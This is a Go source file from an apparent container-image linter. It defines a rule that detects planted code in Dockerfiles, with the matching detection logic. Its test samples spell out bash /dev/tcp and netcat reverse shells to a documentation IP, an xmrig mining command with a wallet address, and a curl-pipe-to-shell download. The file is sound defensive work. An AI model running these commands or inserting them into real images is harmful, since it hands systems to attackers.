package hygiene

import (
	"strings"
	"sync"

	"plimsoll/internal/advisory"
	"plimsoll/internal/dockerfile"
	"plimsoll/internal/keyword"
	"plimsoll/internal/malware"
	"plimsoll/internal/secret"
)

// plantedRules are about code that has no honest place in an image. What it looks
// like is known to package malware.
func plantedRules() []Rule {
	return []Rule{
		{
			ID: "planted-code", Title: "a command hands the container to somebody else", Severity: advisory.Critical, Category: PlantedCode,
			Why:    "A reverse shell, a miner, a script from a throw-away host: nobody needs these to build or to run an honest image. Somebody put them there.",
			Remedy: "Find out who added the line and when; treat every image that was built with it as compromised, and the machine that built it too.",
			Source: "https://attack.mitre.org/matrices/enterprise/containers/",
			Reach:  Alike, OnImage: true,
			Check: plantedCode,
			Bad: []Sample{
				file("FROM a:1\nRUN bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"),
				file("FROM a:1\nCMD [\"nc\", \"-e\", \"/bin/sh\", \"203.0.113.5\", \"4444\"]\n"),
				file("FROM a:1\nENTRYPOINT [\"sh\", \"-c\"]\nCMD [\"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\"]\n"),
				file("FROM a:1\nHEALTHCHECK CMD bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'\n"),
				file("FROM a:1\nCMD [\"xmrig\", \"-o\", \"stratum+tcp://pool.example.com:3333\", \"-u\", \"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\"]\n"),
				file("FROM a:1\nRUN curl -s http://203.0.113.5/setup | sh\n"),
				{Dockerfile: "FROM a:1\nONBUILD RUN bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"},
				{Dockerfile: "FROM a:1\nRUN <<EOF\nset -e\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\nEOF\n", DockerfileOnly: true},
			},
			Good: []Sample{
				file("FROM a:1\nRUN curl -fsSL https://deb.example.com/setup_20.x | bash -\n"),
				file("FROM a:1\nHEALTHCHECK CMD nc -z localhost 8080 || exit 1\n"),
				file("FROM a:1\nCMD [\"bash\", \"-c\", \"exec 3<>/dev/tcp/127.0.0.1/8080\"]\n"),
				file("FROM a:1\nRUN echo 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'\n"),
				file("FROM a:1\nRUN apt-get install -y netcat-openbsd\n"),
				file("FROM a:1\nCMD [\"nginx\", \"-g\", \"daemon off;\"]\n"),
			},
		},
	}
}

// detectors are prepared once: that takes milliseconds.
var detectors = sync.OnceValues(func() (*detection, error) {
	engine, err := malware.NewEngine(malware.Detectors())
	if err != nil {
		return nil, err
	}
	words, err := keyword.New(engine.Words())
	return &detection{engine, words}, err
})

type detection struct {
	engine *malware.Engine
	words  *keyword.Set
}

func plantedCode(l *Lint) {
	d, err := detectors()
	if err != nil {
		return // the detectors' own tests fail then
	}
	judged, bytes := 0, 0
	for _, in := range l.All("run", "cmd", "entrypoint", "healthcheck", "env") {
		if judged++; judged > maxJudged {
			return
		}
		for _, text := range commandTexts(in) {
			// What runs while the image is built is judged as history is.
			place := "config.Cmd"
			if in.Keyword == "run" {
				place = "history.0"
			}
			bytes += len(text)
			if d.report(l, in, place, text, bytes > maxFollowed) {
				break
			}
		}
	}
	if t := l.File.Target(); t != nil {
		entry, cmd := t.Last("entrypoint"), t.Last("cmd")
		if entry != nil && cmd != nil && entry.Exec && cmd.Exec && !l.reportedAt(entry) && !l.reportedAt(cmd) {
			d.report(l, cmd, "config.Cmd", execText(append(texts(entry.Words), texts(cmd.Words)...)), bytes > maxFollowed)
		}
	}
}

// reportedAt tells whether the rule has spoken of an instruction.
func (l *Lint) reportedAt(in *dockerfile.Instruction) bool {
	for i := len(l.findings) - 1; i >= 0 && l.findings[i].Rule == l.rule.ID; i-- {
		if l.findings[i].at == in.Index {
			return true
		}
	}
	return false
}

// maxFollowed is how many bytes of commands are followed whatever they hold; the
// rest of a file is judged where a detector's word stands in it.
const maxFollowed = 256 << 10

// report asks the detectors about one text; one finding speaks for them all.
func (d *detection) report(l *Lint, in *dockerfile.Instruction, place, text string, ledOnly bool) bool {
	content := []byte(text)
	f := &malware.File{Path: place, Content: content, Whole: true, Size: int64(len(content)), Kind: malware.KindOf(content), Interpreter: malware.InterpreterOf(content)}
	var marks malware.Marks
	led := false
	d.words.Find(content, 0, len(content), func(word, at int) bool {
		led = true
		marks.Add(d.engine, content, 0, word, at, false)
		return true
	})
	if ledOnly && !led {
		return false
	}
	var worst *malware.Finding
	found := d.engine.Judge(f, &marks)
	for i := range found {
		// What is only possible would be somebody's installer.
		if found[i].Confidence >= secret.Likely && (worst == nil || found[i].Severity > worst.Severity) {
			worst = &found[i]
		}
	}
	if worst == nil {
		return false
	}
	x := l.Report(in, "%s: %s", worst.Title, worst.Detail)
	x.Severity = worst.Severity
	return true
}

// commandTexts are what an instruction runs, as a shell would read it.
func commandTexts(in *dockerfile.Instruction) []string {
	switch {
	case in.Keyword == "env":
		var all []string
		for _, p := range in.Pairs() {
			v, _ := in.Expand(p.Value)
			all = append(all, p.Name+"="+v)
		}
		return []string{strings.Join(all, "\n")}
	case in.Exec:
		return []string{execText(texts(in.Words))}
	}
	var all []string
	for _, s := range in.Scripts() {
		if !s.Nested {
			all = append(all, s.Text.String)
		}
	}
	return all
}

func texts(words []dockerfile.Text) []string {
	all := make([]string, len(words))
	for i, w := range words {
		all[i] = w.String
	}
	return all
}

// execText writes an exec form as a shell would read it; of sh -c the script.
func execText(words []string) string {
	for i, w := range words {
		if i > 0 && i+1 < len(words) && strings.HasPrefix(w, "-") && !strings.HasPrefix(w, "--") && strings.HasSuffix(w, "c") && isShellName(words[0]) {
			return words[i+1]
		}
	}
	quoted := make([]string, len(words))
	for i, w := range words {
		quoted[i] = shellQuote(w)
	}
	return strings.Join(quoted, " ")
}

func isShellName(program string) bool {
	switch program[strings.LastIndexByte(program, '/')+1:] {
	case "sh", "bash", "ash", "dash", "zsh", "ksh", "busybox":
		return true
	}
	return false
}

// shellQuote quotes a word where a shell would read it otherwise.
func shellQuote(w string) string {
	if w != "" && strings.Trim(w, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_./:=,@%+") == "" {
		return w
	}
	return "'" + strings.ReplaceAll(w, "'", `'\''`) + "'"
}
